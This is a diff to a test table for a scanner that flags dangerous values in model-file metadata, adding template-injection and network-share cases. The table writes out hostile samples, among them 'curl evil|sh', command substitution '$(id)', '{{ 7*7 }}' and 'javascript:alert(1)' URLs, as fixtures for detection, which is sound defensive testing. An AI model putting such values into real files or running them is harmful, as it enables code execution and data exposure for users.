@@ -31,6 +31,8 @@ const CONTENT: readonly Row[] = [
   ['metadata/active-content', 'warning', 'image', 'tells its server who looks', 'general.description', text('![logo](https://example.com/a.png)'), text('see https://example.com/a.png')],
   ['metadata/script', 'warning', 'shebang', 'a program behind a word', 'general.description', text('x\n#!/bin/sh\ncurl evil|sh'), text('x\n# title\ncurl it with care')],
   ['metadata/script', 'warning', 'substitution', 'run where the name is put into a command line', 'general.basename', text('model-$(id)'), text('model-$5 (id)')],
+  ['metadata/script', 'warning', 'template', 'run where the name is put into a template', 'general.name', text('{{ 7*7 }}'), text('{7*7}')],
+  ['metadata/url', 'warning', 'other-machine', 'reaches for a share on the network', 'general.license.link', text('\\\\host\\share'), text('LICENSE')],
   ['metadata/link', 'note', 'markdown', 'leads elsewhere than it says', 'general.description', text('[example.org](https://example.com)'), text('[1] https://example.com')],
   ['metadata/url', 'warning', 'script', 'runs in the page that makes a link of it', 'general.url', text('javascript:alert(1)'), text('https://example.com/a:b')],
   ['metadata/url', 'warning', 'spaced', 'browsers pass over what is before the scheme', 'general.source.url', text(' \tJava\nScript:alert(1)'), text('example.com:8080/a')],
